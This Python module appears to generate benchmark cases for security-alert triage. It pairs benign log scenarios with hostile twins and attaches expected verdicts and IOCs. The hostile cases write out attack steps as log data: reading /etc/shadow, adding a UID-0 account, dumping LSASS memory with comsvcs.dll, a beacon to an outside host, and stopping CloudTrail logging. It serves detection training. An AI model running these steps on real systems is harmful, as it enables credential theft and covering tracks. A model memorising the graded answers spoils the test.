# ruff: noqa: E501
"""Daily work that raises alerts, and its hostile twins: what tells them apart is what the systems themselves recorded."""

from datetime import datetime, timedelta
from typing import Any

from casebook import Case, Log, iso
from cloud import ACCOUNT, trail
from linux import execve
from web import BROWSERS, combined, web_background
from windows import SYSMON, background, flat, process


def auth_line(when: datetime, host: str, program: str, message: str) -> str:
    """A line of the traditional syslog format."""
    return f"{when.strftime('%b %e %H:%M:%S')} {host} {program}: {message}"


def ssh(log: Log, when: datetime, pid: int, outcome: str, user: str, address: str, *steps: str) -> None:
    """One log-in attempt over SSH, by password."""
    log.add(
        when,
        auth_line(
            when, "files-3", f"sshd[{pid}]", f"{outcome} password for {user} from {address} port {40000 + pid} ssh2"
        ),
        *steps,
    )


def ssh_background(case: Case, log: Log, people: dict[str, str], days: int) -> None:
    """People who log in every day, each from the own desk."""
    for day in range(days):
        for user, address in people.items():
            when = case.after(days=day, hours=1 + case.dice.random() * 3)
            pid = case.dice.randrange(2000, 9000)
            ssh(log, when, pid, "Accepted", user, address)
            gone = when + timedelta(hours=2)
            log.add(
                gone,
                auth_line(gone, "files-3", f"sshd[{pid}]", f"pam_unix(sshd:session): session closed for user {user}"),
            )


PEOPLE = {"mkeller": "10.12.4.31", "jbrandt": "10.12.4.32", "sorel": "10.12.4.40", "deploy": "10.12.9.5"}


def forgotten_at_the_usual_desk() -> Case:
    """Six wrong passwords typed at the account's own desk, then the right one."""
    case = Case("b19_sshd_forgotten_password_own_desk", "2025-05-12 05:00:00")
    log = case.log("auth.log")
    ssh_background(case, log, PEOPLE, 3)
    for turn in range(6):
        when = case.after(days=3, minutes=100, seconds=turn * 11 + case.dice.randrange(4))
        ssh(log, when, 9100, "Failed", "mkeller", "10.12.4.31", "failures")
    when = case.after(days=3, minutes=102, seconds=20)
    ssh(log, when, 9100, "Accepted", "mkeller", "10.12.4.31", "success")
    for user in ("jbrandt", "sorel"):
        ssh(log, case.after(days=3, minutes=130), 9200, "Accepted", user, PEOPLE[user])
    case.alert = {
        "rule": "Successful SSH login after several failures",
        "severity": "high",
        "timestamp": iso(when),
        "src": "10.12.4.31",
        "user": "mkeller",
        "host": "files-3",
    }
    return case.judge(
        "benign",
        "informational low",
        "mkeller types a wrong password six times, seconds apart, at the address that the account comes from every day, then the right one.",
        steps={"failures": "six failures by hand from the account's own address", "success": "then the account got in"},
        not_iocs=("10.12.4.31", "mkeller"),
    )


def guessed_from_a_new_place() -> Case:
    """The same count of failures from an address that nobody came from before, and what follows."""
    case = Case("m22_sshd_guessed_from_new_address", "2025-05-19 05:00:00")
    log = case.log("auth.log")
    ssh_background(case, log, PEOPLE, 3)
    address = "203.0.113.201"
    for turn in range(8):
        when = case.after(days=3, minutes=100, seconds=turn * 3)
        ssh(log, when, 9300 + turn, "Failed", "sorel", address, "failures")
    when = case.after(days=3, minutes=101)
    ssh(log, when, 9320, "Accepted", "sorel", address, "success")
    for minutes, command in ((102, "/usr/bin/cat /etc/shadow"), (104, "/usr/sbin/useradd -o -u 0 -g 0 syscheck")):
        then = case.after(days=3, minutes=minutes)
        log.add(
            then,
            auth_line(
                then, "files-3", "sudo", f"   sorel : TTY=pts/1 ; PWD=/home/sorel ; USER=root ; COMMAND={command}"
            ),
            "root",
        )
    case.alert = {
        "rule": "Successful SSH login after several failures",
        "severity": "high",
        "timestamp": iso(when),
        "src": address,
        "user": "sorel",
        "host": "files-3",
    }
    return case.judge(
        "malicious",
        "medium high critical",
        "sorel's password is guessed from an address that nobody came from before; root's passwords are read and a second root account is made.",
        steps={
            "failures": "eight failures in half a minute from a new address",
            "success": "then the account got in",
            "root": "passwords are read and an account with root's number is made",
        },
        techniques="T1110.001 T1136.001",
        more_techniques="T1078 T1110 T1003.008 T1548.003 T1136 T1021.004 T1078.003 T1098 T1003",
        iocs=(address,),
        more_iocs=("syscheck", "sorel"),
        not_iocs=("10.12.4.40", "10.12.4.31", "deploy"),
    )


WORDS = """
admin backup old test dev staging private export dump import config install setup tmp temp upload uploads files data db sql
archive logs log api internal manage manager console panel dashboard root user users account accounts secret secrets key keys
token hidden draft beta orig copy save
"""

SHOP = (
    "/",
    "/shop/boots",
    "/shop/coats",
    "/shop/hats?page=2",
    "/media/cache/3f/b21.jpg",
    "/media/cache/8c/a90.jpg",
    "/media/theme/shop.css",
)


def missing_pictures() -> Case:
    """After a release a page asks for thumbnails that were not made yet."""
    case = Case("b20_nginx_missing_thumbnails", "2025-08-05 08:00:00")
    log = case.log("access.log")
    web_background(case, log, SHOP, "hiking.example", 420, 4)
    visitor = case.public()
    for number in range(48):
        when = case.after(minutes=130, seconds=number * 0.7)
        path = f"/media/cache/{case.hex(2)}/{case.hex(3)}.jpg"
        log.add(
            when,
            combined(when, visitor, f"GET {path}", 404, 153, "https://hiking.example/shop/boots", BROWSERS[1]),
            "alerted",
        )
        if number % 8 == 0:
            log.add(
                when, combined(when, visitor, f"GET /shop/boots?page={number}", 200, 31000, agent=BROWSERS[1]), "pages"
            )
    case.alert = {
        "name": "Directory enumeration",
        "detail": "48 different paths answered 404 to one client within a minute",
        "client_ip": visitor,
        "at": iso(case.after(minutes=130)),
        "urgency": "medium",
    }
    return case.judge(
        "benign",
        "informational low",
        "A visitor's browser asks for thumbnails that the shop's pages name and the server does not have yet.",
        steps={
            "alerted": "missing pictures in the folder that the server gives pictures from",
            "pages": "the pages between are given",
        },
        not_iocs=(visitor, "hiking.example"),
    )


def searched_below_the_shop() -> Case:
    """Words of a list below a folder that the server gives others."""
    case = Case("m23_nginx_search_below_served_folder", "2025-08-06 08:00:00")
    log = case.log("access.log")
    web_background(case, log, SHOP, "hiking.example", 420, 4)
    visitor = case.public()
    for number, word in enumerate(WORDS.split()):
        when = case.after(minutes=130, seconds=number * 0.4)
        log.add(when, combined(when, visitor, f"GET /shop/{word}", 404, 153, agent=BROWSERS[1]), "search")
    when = case.after(minutes=131)
    log.add(when, combined(when, visitor, "GET /shop/.env", 404, 153, agent=BROWSERS[1]), "search")
    when = case.after(minutes=131, seconds=2)
    log.add(when, combined(when, visitor, "GET /shop/wp-login.php", 404, 153, agent=BROWSERS[1]), "search")
    case.alert = {
        "name": "Directory enumeration",
        "detail": "More than 50 different paths answered 404 to one client within a minute",
        "client_ip": visitor,
        "at": iso(case.after(minutes=130)),
        "urgency": "medium",
    }
    return case.judge(
        "malicious",
        "low medium",
        "One client tries a list of words below the shop, in seconds, none of which exists.",
        steps={"search": "a word list is tried"},
        techniques="T1595.003",
        more_techniques="T1595 T1595.002 T1083",
        iocs=(visitor,),
        not_iocs=("hiking.example",),
    )


def dead_links() -> Case:
    """A search engine follows links that died when the site was moved."""
    case = Case("b21_apache_search_engine_dead_links", "2025-09-22 00:00:00")
    log = case.log("access.log")
    web_background(case, log, ("/", "/recipes/soup", "/recipes/bread", "/about"), "oven.example", 300, 6)
    crawler, agent = "157.55.39.74", "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"
    for number in range(70):
        when = case.after(minutes=180, seconds=number * 5)
        path = (
            f"/blog/{2009 + number % 9}/{1 + number % 12:02}/post-{number}.html"
            if number % 4
            else f"/recipes/{('soup', 'bread')[number % 8 > 3]}"
        )
        status = 404 if number % 4 else 200
        log.add(
            when,
            combined(when, crawler, f"GET {path}", status, 900, agent=agent),
            "alerted" if number % 4 else "~given",
        )
    case.alert = {
        "summary": "Client requests many missing pages",
        "ip": crawler,
        "first": iso(case.after(minutes=180)),
        "count": 53,
        "level": "medium",
    }
    return case.judge(
        "benign",
        "informational low",
        "A search engine's crawler, from the engine's published network, asks for the pages of the blog that is gone.",
        steps={"alerted": "missing pages of the old blog, asked for from the crawler's own network"},
        not_iocs=(crawler,),
    )


def monitoring_agent(name: str, agent: str, *, is_hostile: bool) -> Case:
    """A program asks a machine about itself: what it is, the place where its parent lies tells."""
    case = Case(name, "2025-11-03 06:00:00")
    log = case.log("winlog.json")
    hosts = [f"ORD-PC{number:02}" for number in range(1, 9)]
    background(case, log, flat, hosts, "ORDAL", ["ann", "ben", "cora", "dirk"], 260, 5)
    system = "C:\\Windows\\System32\\"
    user = "ORDAL\\ben" if is_hostile else "NT AUTHORITY\\SYSTEM"
    commands = (
        ("cmd.exe", "cmd.exe /c systeminfo", agent),
        ("systeminfo.exe", "systeminfo", system + "cmd.exe"),
        ("cmd.exe", "cmd.exe /c net localgroup administrators", agent),
        ("net.exe", "net localgroup administrators", system + "cmd.exe"),
        ("net1.exe", "net1 localgroup administrators", system + "net.exe"),
        ("cmd.exe", "cmd.exe /c whoami /groups", agent),
        ("whoami.exe", "whoami /groups", system + "cmd.exe"),
        ("cmd.exe", "cmd.exe /c netstat -ano", agent),
        ("NETSTAT.EXE", "netstat -ano", system + "cmd.exe"),
        ("cmd.exe", "cmd.exe /c tasklist /svc", agent),
        ("tasklist.exe", "tasklist /svc", system + "cmd.exe"),
    )
    for position, (image, command, parent) in enumerate(commands):
        when = case.after(minutes=140, seconds=3 * position)
        log.add(
            when,
            flat(case, when, "ORD-PC04", SYSMON, 1, **process(case, user, system + image, command, parent)),
            "alerted",
        )
    if is_hostile:
        when = case.after(minutes=142)
        command = f'"{agent}" --connect 203.0.113.77:8443'
        log.add(
            when,
            flat(case, when, "ORD-PC04", SYSMON, 1, **process(case, user, agent, command, system + "cmd.exe")),
            "call",
        )
        when = case.after(minutes=143)
        command = "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 640 C:\\Users\\Public\\d.bin full"
        log.add(
            when,
            flat(case, when, "ORD-PC04", SYSMON, 1, **process(case, user, system + "rundll32.exe", command, agent)),
            "dump",
        )
    case.alert = {
        "rule": {"name": "Burst of discovery commands"},
        "host": {"name": "ORD-PC04"},
        "@timestamp": iso(case.after(minutes=140), 3),
        "kibana.alert.severity": "medium",
        "process.parent.executable": agent,
    }
    if is_hostile:
        return case.judge(
            "malicious",
            "high critical",
            "A program in a folder that anyone can write to asks the machine about itself, calls a far end and dumps the logon process' memory.",
            steps={
                "alerted": "a burst of discovery commands",
                "dump": "the logon process' memory is dumped",
                "call": "it connects to a far end",
            },
            techniques="T1003.001",
            more_techniques="T1082 T1069.001 T1033 T1049 T1057 T1218.011 T1036.005 T1036 T1071 T1059.003 T1087.001 T1571 T1007 T1087 T1204.002",
            iocs=("203.0.113.77",),
            more_iocs=(agent, agent.rsplit("\\", 1)[-1], "C:\\Users\\Public\\d.bin", "d.bin"),
            not_iocs=("ORD-PC05", "cora"),
        )
    return case.judge(
        "benign",
        "informational low",
        "The monitoring agent, installed where only administrators write, takes its inventory.",
        steps={"alerted": "discovery commands that the monitoring agent starts"},
        not_iocs=("ORD-PC04", agent),
    )


def inventory() -> Case:
    """The agent where it was installed."""
    return monitoring_agent(
        "b22_windows_flat_agent_inventory", "C:\\Program Files\\Zabbix Agent 2\\zabbix_agent2.exe", is_hostile=False
    )


def false_inventory() -> Case:
    """A program with the agent's name elsewhere."""
    return monitoring_agent("m24_windows_flat_false_agent", "C:\\Users\\Public\\zabbix_agent2.exe", is_hostile=True)


def installed(log: Log, when: datetime, serial: int, source: str, account: str) -> None:
    """dpkg installs a package, whose script makes an account; records of auditd."""
    acts = (
        ("/usr/bin/dpkg", ("/usr/bin/dpkg", "-i", source)),
        ("/usr/bin/dash", ("/bin/sh", f"/var/lib/dpkg/info/{account}.postinst", "configure")),
        ("/usr/sbin/useradd", ("useradd", "--system", "--shell", "/usr/sbin/nologin", account)),
    )
    for position, (exe, arguments) in enumerate(acts):
        at = when + timedelta(seconds=4 * position)
        for line in execve(at, serial + position, 0, exe, *arguments, key="rootcmd").split("\n"):
            log.add(at, line)


def package_from_somewhere() -> Case:
    """A package out of a folder that anyone can write to makes an account: what it is, nothing tells."""
    case = Case("u01_auditd_package_from_tmp", "2025-06-23 09:00:00")
    log = case.log("audit.log")
    for number in range(60):
        when = case.sometime(hours=6)
        exe, *arguments = case.dice.choice(
            (
                ("/usr/bin/df", "df", "-P"),
                ("/usr/sbin/logrotate", "logrotate", "/etc/logrotate.conf"),
                ("/usr/bin/find", "find", "/var/spool", "-mtime", "+7"),
            )
        )
        log.add(when, execve(when, 31000 + 7 * number, 0, exe, *arguments))
    installed(log, case.after(hours=4), 52000, "/tmp/prt-helper.deb", "prt-helper")
    case.alert = {
        "rule": "Local account created by root outside of a session",
        "level": "high",
        "@timestamp": iso(case.after(hours=4, seconds=8)),
        "fields": {"account": "prt-helper", "exe": "/usr/sbin/useradd"},
    }
    return case.judge(
        "insufficient_evidence",
        "low informational medium",
        "A package out of /tmp makes a system account without a shell. Whose package it is, the logs do not say.",
        steps={},
        not_iocs=("/usr/sbin/useradd",),
    )


def firewall_maintenance() -> Case:
    """An administrator switches the firewall off, upgrades, and on again."""
    case = Case("u02_syslog_firewall_off_and_on", "2025-04-08 05:00:00")
    log = case.log("auth.log")
    ssh_background(case, log, PEOPLE, 3)
    ssh(log, case.after(days=3, minutes=59), 9400, "Accepted", "jbrandt", "10.12.4.32")
    for minutes, command in (
        (60, "/usr/sbin/ufw disable"),
        (61, "/usr/bin/apt-get upgrade"),
        (79, "/usr/bin/systemctl restart nfs-server"),
        (81, "/usr/sbin/ufw --force enable"),
    ):
        when = case.after(days=3, minutes=minutes)
        log.add(
            when,
            auth_line(
                when, "files-3", "sudo", f" jbrandt : TTY=pts/0 ; PWD=/home/jbrandt ; USER=root ; COMMAND={command}"
            ),
        )
    case.alert = {
        "title": "Host firewall switched off",
        "host": "files-3",
        "user": "jbrandt",
        "time": iso(case.after(days=3, minutes=60)),
        "severity": "high",
    }
    return case.judge(
        "insufficient_evidence",
        "low informational medium",
        "jbrandt, from the usual desk, switches the firewall off for twenty minutes of upgrades. It looks like maintenance; who ordered it, the logs do not say.",
        steps={},
        not_iocs=("jbrandt", "10.12.4.32"),
    )


def service(name: str) -> dict[str, Any]:
    """The identity of a service of the platform."""
    return {"type": "AWSService", "invokedBy": f"{name}.amazonaws.com"}


def user(name: str) -> dict[str, Any]:
    """The identity of a user with a key."""
    return {
        "type": "IAMUser",
        "arn": f"arn:aws:iam::{ACCOUNT}:user/{name}",
        "accountId": ACCOUNT,
        "userName": name,
        "accessKeyId": "AKIAV3XQ7EXAMPLE",
    }


def cloud_background(case: Case, log: Log, events: int, hours: float) -> None:
    """Console use and the platform's own calls."""
    for _ in range(events):
        when = case.sometime(hours=hours)
        name = case.dice.choice(("olga", "piet"))
        call = case.dice.choice(("ec2:DescribeInstances", "cloudwatch:DescribeAlarms", "s3:ListBuckets"))
        log.add(when, trail(case, when, user(name), f"198.51.100.{20 + len(name)}", "console.amazonaws.com", call))


def scaled_in() -> Case:
    """At night the platform's autoscaling ends most instances of a group."""
    case = Case("b23_cloudtrail_autoscaling_ends_instances", "2025-10-06 18:00:00")
    log = case.log("trail.json")
    cloud_background(case, log, 120, 5)
    for number in range(60):
        when = case.after(minutes=200, seconds=5 * number)
        log.add(
            when,
            trail(
                case, when, service("autoscaling"), "autoscaling.amazonaws.com", "autoscaling.amazonaws.com", "ec2:TerminateInstances",
                request={"instancesSet": {"items": [{"instanceId": f"i-0{case.hex(16)}"}]}},
            ),
            "alerted",
        )  # fmt: skip
    case.alert = {
        "detail-type": "Mass termination of instances",
        "time": iso(case.after(minutes=200)),
        "detail": {"service": "autoscaling.amazonaws.com", "eventName": "TerminateInstances", "count": 60},
        "severity": "high",
    }
    return case.judge(
        "benign",
        "informational low",
        "The platform's autoscaling ends the instances of a group, as its own records say.",
        steps={"alerted": "the platform's service ends the instances"},
        not_iocs=("olga", "piet"),
    )


def collected(name: str, *, is_hostile: bool) -> Case:
    """Many objects are read within minutes: the platform's own deliveries, or customers' files."""
    case = Case(name, "2025-03-11 01:00:00")
    log = case.log("trail.json")
    cloud_background(case, log, 90, 5)
    for number in range(40):
        when = case.after(minutes=7 * number)
        log.add(
            when,
            trail(
                case, when, service("delivery.logs"), "delivery.logs.amazonaws.com", "delivery.logs.amazonaws.com", "s3:PutObject",
                request={"bucketName": "brook-flowlogs", "key": f"AWSLogs/{ACCOUNT}/vpcflowlogs/eu-central-1/2025/03/11/{case.hex(12)}.log.gz"},
            ),
        )  # fmt: skip
    reader, address = ("collector", "198.51.100.61")
    bucket = "brook-customers" if is_hostile else "brook-flowlogs"
    folder = "contracts/2025/signed" if is_hostile else f"AWSLogs/{ACCOUNT}/vpcflowlogs"
    for number in range(220):
        when = case.after(minutes=290, seconds=0.6 * number)
        log.add(
            when,
            trail(
                case, when, user(reader), address, "aws-cli/2.17.9 Python/3.11.8 Linux/6.1", "s3:GetObject",
                request={"bucketName": bucket, "key": f"{folder}/{case.hex(12)}.{'pdf' if is_hostile else 'log.gz'}"},
            ),
            "alerted",
        )  # fmt: skip
    if is_hostile:
        for call, target in (
            ("iam:CreateAccessKey", {"userName": "olga"}),
            ("s3:DeleteBucketPolicy", {"bucketName": bucket}),
            ("cloudtrail:StopLogging", {"name": "org-trail"}),
        ):
            when = case.after(minutes=294)
            log.add(
                when,
                trail(
                    case, when, user(reader), address, "aws-cli/2.17.9 Python/3.11.8 Linux/6.1", call, request=target
                ),
                "after",
            )
    case.alert = {
        "finding": "Unusual number of objects read",
        "resource": {"bucket": bucket},
        "principal": reader,
        "remoteIp": address,
        "eventTime": iso(case.after(minutes=290)),
        "severity": 7.1,
    }
    if is_hostile:
        return case.judge(
            "malicious",
            "high critical",
            "A key reads the customers' contracts, makes a key for another user, opens the bucket and stops the recording.",
            steps={
                "alerted": "contracts are read in masses",
                "after": "a second key, a policy removed, the recording stopped",
            },
            techniques="T1530 T1098.001",
            more_techniques="T1562.008 T1078.004 T1537 T1119 T1562 T1098 T1562.007 T1222 T1562.001",
            iocs=(address, reader),
            more_iocs=("olga", "brook-customers", "AKIAV3XQ7EXAMPLE"),
            not_iocs=("piet", "brook-flowlogs"),
        )
    return case.judge(
        "benign",
        "informational low",
        "A reader fetches the flow logs that the platform delivers into their bucket, and nothing else.",
        steps={"alerted": "the platform's own deliveries are read"},
        not_iocs=(address, reader, bucket),
    )


def flow_logs_collected() -> Case:
    """The records' own bucket."""
    return collected("b24_cloudtrail_flow_logs_collected", is_hostile=False)


def contracts_collected() -> Case:
    """Somebody's files."""
    return collected("m25_cloudtrail_contracts_collected", is_hostile=True)


def polling(name: str, *, is_house: bool) -> Case:
    """Machines that ask one name every ten minutes: the whole house, or four of forty."""
    case = Case(name, "2025-02-18 07:00:00")
    log = case.log("access.log")
    far = "cfg.sensor-fleet.example" if is_house else "cdn-static.example"
    machines = [f"10.77.1.{10 + number}" for number in range(40)]
    for machine in machines:
        for _ in range(9):
            when = case.sometime(hours=5)
            site = case.dice.choice(
                ("news.example", "rail.example", "wiki.example", "intranet.example", "weather.example")
            )
            log.add(
                when,
                f"{when.timestamp():.3f}    {case.dice.randrange(20, 400)} {machine} TCP_MISS/200 {case.dice.randrange(900, 40000)} GET http://{site}/{case.hex(4)} - HIER_DIRECT/198.51.100.7 text/html",
            )
    for machine in machines if is_house else machines[:4]:
        offset = case.dice.randrange(600)
        for turn in range(28):
            when = case.after(seconds=offset + 600 * turn)
            log.add(
                when,
                f"{when.timestamp():.3f}     31 {machine} TCP_MISS/200 412 POST http://{far}/v1/state - HIER_DIRECT/198.51.100.99 application/json",
                *(["alerted"] if is_house else []),
            )
    case.alert = {
        "title": "Regular requests to one site (beaconing)",
        "src_ip": machines[0],
        "domain": far,
        "time": iso(case.after(hours=3)),
        "severity": "high",
    }
    if is_house:
        return case.judge(
            "benign",
            "informational low",
            "Every machine of the house polls the same site every ten minutes.",
            steps={"alerted": "the same poll by all machines"},
            not_iocs=(far, machines[0]),
        )
    return case.judge(
        "insufficient_evidence",
        "low informational medium",
        "Four of forty machines call one site every ten minutes. Whether they run the same program or the same implant, the proxy does not say.",
        steps={},
        not_iocs=(machines[20],),
    )


def house_polls() -> Case:
    """All of forty."""
    return polling("b25_squid_whole_house_polls", is_house=True)


def four_call() -> Case:
    """Four of forty."""
    return polling("u03_squid_four_of_forty_call", is_house=False)


CASES = (
    forgotten_at_the_usual_desk, guessed_from_a_new_place, missing_pictures, searched_below_the_shop, dead_links, inventory,
    false_inventory, package_from_somewhere, firewall_maintenance, scaled_in, flow_logs_collected, contracts_collected,
    house_polls, four_call,
)  # fmt: skip
